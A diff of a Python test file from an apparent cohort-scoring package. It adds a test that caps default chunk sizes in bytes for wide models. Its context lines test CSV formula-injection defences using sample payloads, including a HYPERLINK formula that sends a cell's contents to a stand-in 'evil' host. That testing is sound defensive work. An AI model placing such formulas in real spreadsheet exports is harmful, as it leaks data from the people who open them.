@@ -159,3 +159,14 @@ def test_csv_output_is_formula_safe(genomic: Bundle, genomic_cohort: pd.DataFram
     assert rows[0]["site"] == "'=HYPERLINK(\"http://evil/?\"&A1)" and rows[1]["site"] == "'@SUM(1)"
     assert rows[2]["outcome"] == "'+cmd"
     assert float(rows[0]["P(metastasis)"]) >= 0 and rows[3]["error"].startswith("'size' is 'huge'")
+
+
+def test_default_chunk_is_capped_in_bytes_for_wide_models(genomic: Bundle) -> None:
+    """50,000 rows, or 32 MiB of float64 inputs if fewer: the 376-input DILI model reads 11,155
+    rows a chunk (at 50,000 its 10^6-row run peaked above 2 GB; bench_cohort.py)."""
+    from precimed.cohort.score import DEFAULT_CHUNK_BYTES, default_chunk_rows
+    from precimed.registry import get_bundle
+
+    assert default_chunk_rows(genomic) == 50_000  # 80 inputs: 32 MB at 50,000 rows
+    dili = get_bundle("dili-hepatic-injury-qsar")
+    assert default_chunk_rows(dili) == DEFAULT_CHUNK_BYTES // (8 * 376) == 11_155
